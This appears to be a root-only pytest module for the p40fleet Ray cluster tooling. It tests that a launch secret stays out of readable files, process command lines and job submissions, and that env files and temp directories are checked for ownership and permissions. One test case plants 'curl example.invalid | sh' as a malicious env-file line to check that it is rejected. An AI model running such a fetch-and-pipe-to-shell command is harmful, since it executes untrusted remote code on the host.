"""Attacks on the cluster's submit command and launch secrets, on this machine: p40fleet-ray-submit is
rendered for a head whose env owner is an unprivileged account (`nobody`) with a secret in launch_script_environment,
then tried as another local account (`daemon`), as root and as the owner, its `ray` the stand-in
python/tests/fixtures/standins/ray/ray_job_submit.py, which keeps what Ray's job table would keep and runs the
entrypoint as Ray's job supervisor does. The secret is searched for in every file another account can read, in the
command lines (what `ps` shows) and in the submission (Ray's job API and runtime env).

Needs root (the accounts are switched with setuid): without it the tests say so and skip."""

from __future__ import annotations

import contextlib
import grp
import hashlib
import json
import os
import pwd
import re
import shutil
import signal
import stat
import subprocess
import tempfile
import time
from pathlib import Path

import pytest

from p40fleet_dev.paths import REPO_ROOT
from tests.launch_render import render_ray_submit

STANDIN_RAY = REPO_ROOT / "python" / "tests" / "fixtures" / "standins" / "ray" / "ray_job_submit.py"
NODE_SCRIPT = REPO_ROOT / "roles" / "ray_cluster" / "files" / "p40fleet-ray-node"
OWNER, OTHER = "nobody", "daemon"
SECRET = "wandb-0f1e2d3c4b5a-do-not-leak"
PLAN = {"cluster": "demo", "head": "head", "members": ["head", "w1"], "nnodes": 2, "gpus_per_node": 1, "refusals": []}

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root to run the submit command as other accounts")


@pytest.fixture(scope="module")
def head():
    """A head rendered in a directory every account can traverse (pytest's own are root's, 0700)."""
    work = Path(tempfile.mkdtemp(prefix="p40fleet-submit-", dir="/tmp"))
    work.chmod(0o755)
    try:
        ray = work / "ray"
        shutil.copy(STANDIN_RAY, ray)
        ray.chmod(0o755)
        # The env's python as the entrypoint execs it: says whether the driver has the secret (by its digest: this
        # file is readable by all).
        python = work / "python"
        digest = hashlib.sha256(SECRET.encode()).hexdigest()
        # With +standin.train=1 it trains on until stopped, as a job does.
        python.write_text(
            '#!/bin/sh\n[ "$(printf %s "${WANDB_API_KEY:-}" | sha256sum | cut -d" " -f1)" = ' + digest + " ] "
            '&& echo "driver has the secret: yes" || echo "driver has the secret: no"\n'
            'case " $* " in *" +standin.train=1 "*) echo "training"; exec sleep 600 ;; esac\n'
        )
        python.chmod(0o755)
        result = render_ray_submit(
            work,
            PLAN,
            OWNER,
            ("--diff",),
            p40fleet_conda_python=str(python),
            launch_script_work_dir=str(work / "runs"),
            launch_script_environment={"WANDB_API_KEY": SECRET, "WANDB_MODE": "offline"},
            ray_cluster_ray_bin=str(ray),
        )
        assert result.rc == 0, result.stdout[-3000:]
        # The owner's 0600 .env as the launch_script role writes it (render.yml), and the owner's work directory.
        owner = pwd.getpwnam(OWNER)
        env_file = work / "train_gsm8k_ppo.env"
        env_file.write_text(f"# Managed by p40fleet\nexport WANDB_API_KEY='{SECRET}'\nexport WANDB_MODE='offline'\n")
        env_file.chmod(0o600)
        os.chown(env_file, owner.pw_uid, owner.pw_gid)
        (work / "runs").mkdir(mode=0o700)
        os.chown(work / "runs", owner.pw_uid, owner.pw_gid)
        (work / "home").mkdir(mode=0o700)
        os.chown(work / "home", owner.pw_uid, owner.pw_gid)
        yield {"work": work, "submit": work / "p40fleet-ray-submit", "playbook": result}
    finally:
        shutil.rmtree(work)


def run_as(account, argv, work, **env):
    user = pwd.getpwnam(account)
    return subprocess.run(
        argv,
        user=user.pw_uid,
        group=user.pw_gid,
        extra_groups=[],
        env={"PATH": "/usr/bin:/bin", "HOME": str(work / "home"), **env},
        cwd="/",
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )


def test_the_submit_command_is_the_owners_alone(head):
    submit = head["submit"]
    shown = submit.stat()
    assert (shown.st_uid, grp.getgrgid(shown.st_gid).gr_name, stat.S_IMODE(shown.st_mode)) == (0, "nogroup", 0o750)
    # Another account cannot run it, nor read it.
    with pytest.raises(PermissionError):
        run_as(OTHER, [str(submit), "--print"], head["work"])
    assert run_as(OTHER, ["/bin/bash", str(submit), "--print"], head["work"]).returncode != 0
    # A copy it could read refuses it all the same, before anything is printed or submitted; so does root.
    copy = head["work"] / "copy-of-submit"
    shutil.copy(submit, copy)
    copy.chmod(0o755)
    for account in (OTHER, "root"):
        refused = run_as(account, [str(copy), "--nodes"], head["work"])
        assert refused.returncode == 1 and refused.stdout == ""
        assert f"only {OWNER} may submit the cluster's jobs" in refused.stderr
    assert run_as(OWNER, [str(submit), "--print"], head["work"]).returncode == 0


def test_the_secret_is_in_no_file_others_read_no_command_line_and_no_submission(head):
    work, record = head["work"], head["work"] / "home" / "submission.json"
    submitted = run_as(OWNER, [str(head["submit"]), "--smoke", "1"], work, P40FLEET_STANDIN_RAY_RECORD=str(record))
    assert submitted.returncode == 0, submitted.stderr
    job = json.loads(record.read_text())
    # No command line (what `ps` shows of `ray job submit` and of the job) and nothing Ray keeps has it...
    assert SECRET not in " ".join(job["argv"]) and SECRET not in job["entrypoint"]
    assert SECRET not in json.dumps(job["runtime_env"])
    assert "WANDB_API_KEY" not in json.dumps(job["runtime_env"])
    # ...yet the driver has it, read from the owner's file by the entrypoint.
    assert "driver has the secret: yes" in job["output"]
    assert str(work / "train_gsm8k_ppo.env") in job["entrypoint"]
    # Nor the playbook's output with --diff, nor any file another account can read.
    assert SECRET not in head["playbook"].stdout
    readable = []
    for path in work.rglob("*"):
        if path.is_file() and not path.is_symlink():
            found = path.stat()
            others_read = found.st_mode & 0o004 or (found.st_mode & 0o040 and found.st_gid != 0)
            if others_read and SECRET in path.read_text(errors="replace"):
                readable.append(str(path))
    assert readable == []
    # The check above can fail: on the host, the owner's .env is the one file that holds the secret, and it is 0600
    # (hosts.yml is the controller's inventory, root's 0600, not the host's).
    holders = {p.name for p in work.rglob("*") if p.is_file() and SECRET in p.read_text(errors="replace")}
    assert holders == {"train_gsm8k_ppo.env", "hosts.yml"}


def test_a_stopped_submit_command_stops_its_job_on_the_cluster_and_says_so(head):
    """`p40fleet train stop --cluster` stops the head's unit: systemd sends SIGTERM to every process of it, the submit
    command and its `ray job submit` client. The job is the cluster's and would train on; it is stopped too."""
    work, record = head["work"], head["work"] / "home" / "stopped.json"
    user = pwd.getpwnam(OWNER)
    unit = subprocess.Popen(
        [str(head["submit"]), "+standin.train=1"],
        user=user.pw_uid,
        group=user.pw_gid,
        extra_groups=[],
        env={"PATH": "/usr/bin:/bin", "HOME": str(work / "home"), "P40FLEET_STANDIN_RAY_RECORD": str(record)},
        cwd="/",
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        start_new_session=True,
    )
    jobs = Path(f"{record}.jobs")
    deadline = time.monotonic() + 30
    while not any(jobs.glob("*.log")) or "training" not in next(jobs.glob("*.log")).read_text():
        assert time.monotonic() < deadline and unit.poll() is None, "the job did not start"
        time.sleep(0.2)
    job_id = next(jobs.glob("*.pid")).stem
    job_pid = int(next(jobs.glob("*.pid")).read_text())
    os.killpg(unit.pid, signal.SIGTERM)  # the unit's stop: every process of its control group
    try:
        output, _ = unit.communicate(timeout=60)
        job_left = subprocess.run(["kill", "-0", str(job_pid)], capture_output=True, check=False).returncode == 0
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(job_pid, signal.SIGKILL)  # a job left behind by a failure does not train on here
    assert not job_left, "the job trains on after its submit command was stopped"
    assert unit.returncode == 143, output
    assert f"p40fleet-ray-submit: stopping job {job_id} on the cluster (ray job stop)" in output
    assert f"p40fleet-ray-submit: job {job_id} stopped" in output
    assert (jobs / f"{job_id}.stop").read_text().split()[-1] == job_id
    log = (work / "home" / ".p40fleet" / "ray-jobs" / "jobs.log").read_text()
    assert re.search(rf"^\S+ {re.escape(job_id)} STOPPED$", log, re.MULTILINE), log


def node_script():
    """p40fleet-ray-node's functions (the file has no .py suffix: its loader named, as importlib's own way)."""
    import importlib.util
    from importlib.machinery import SourceFileLoader

    loader = SourceFileLoader("p40fleet_ray_node_guard", str(NODE_SCRIPT))
    module = importlib.util.module_from_spec(importlib.util.spec_from_loader(loader.name, loader))
    loader.exec_module(module)
    return module


@pytest.mark.parametrize(
    ("made", "wanted"),
    [
        ("absent", {}),
        ("the role's file", {"WANDB_API_KEY": SECRET, "QUOTED": "it's a 'value'"}),
        ("readable by others", "only it reads (0600)"),
        ("a link to the role's file", "cannot be opened"),
        ("a FIFO", "only it reads (0600)"),
        ("another account's", "only it reads (0600)"),
        ("a line that is no export", "is not an `export NAME=value` line"),
    ],
)
def test_the_node_reads_the_launch_environment_as_data(tmp_path, capsys, made, wanted):
    node = node_script()
    path = tmp_path / "train_gsm8k_ppo.env"
    text = f"# Managed by p40fleet\nexport WANDB_API_KEY='{SECRET}'\nexport QUOTED='it'\"'\"'s a '\"'\"'value'\"'\"''\n"
    if made in ("the role's file", "readable by others", "another account's", "a link to the role's file"):
        target = tmp_path / "real.env" if made.startswith("a link") else path
        target.write_text(text)
        target.chmod(0o644 if made == "readable by others" else 0o600)
        if made == "another account's":
            os.chown(target, pwd.getpwnam(OTHER).pw_uid, -1)
        if made.startswith("a link"):
            path.symlink_to(target)
    elif made == "a FIFO":
        os.mkfifo(path, 0o600)
    elif made == "a line that is no export":
        path.write_text(f"export WANDB_API_KEY='{SECRET}'\ncurl example.invalid | sh\n")
        path.chmod(0o600)
    if isinstance(wanted, dict):
        assert node.launch_environment(str(path)) == wanted
        return
    with pytest.raises(SystemExit):
        node.launch_environment(str(path))
    err = capsys.readouterr().err
    assert wanted in err and SECRET not in err


@pytest.mark.parametrize(
    ("made", "wanted"),
    [
        ("absent", None),
        ("open to all", None),
        ("a link", "is not a directory of this account's"),
        ("another account's", "is not a directory of this account's"),
        ("in a parent others can change", "is not a directory only this account or root can change"),
    ],
)
def test_rays_temp_directory_is_private_to_the_owner(tmp_path, capsys, made, wanted):
    node = node_script()
    parent = tmp_path / "home"
    parent.mkdir(mode=0o755)
    path = parent / ".p40fleet-ray"
    if made == "open to all":
        path.mkdir(mode=0o777)
        path.chmod(0o777)
    elif made == "a link":
        (tmp_path / "elsewhere").mkdir()
        path.symlink_to(tmp_path / "elsewhere")
    elif made == "another account's":
        path.mkdir()
        os.chown(path, pwd.getpwnam(OTHER).pw_uid, -1)
    elif made == "in a parent others can change":
        parent.chmod(0o777)
    if wanted is None:
        assert node.private_dir(str(path)) == str(path)
        found = os.lstat(path)
        assert stat.S_ISDIR(found.st_mode) and stat.S_IMODE(found.st_mode) == 0o700 and found.st_uid == os.getuid()
        return
    with pytest.raises(SystemExit):
        node.private_dir(str(path))
    assert wanted in capsys.readouterr().err
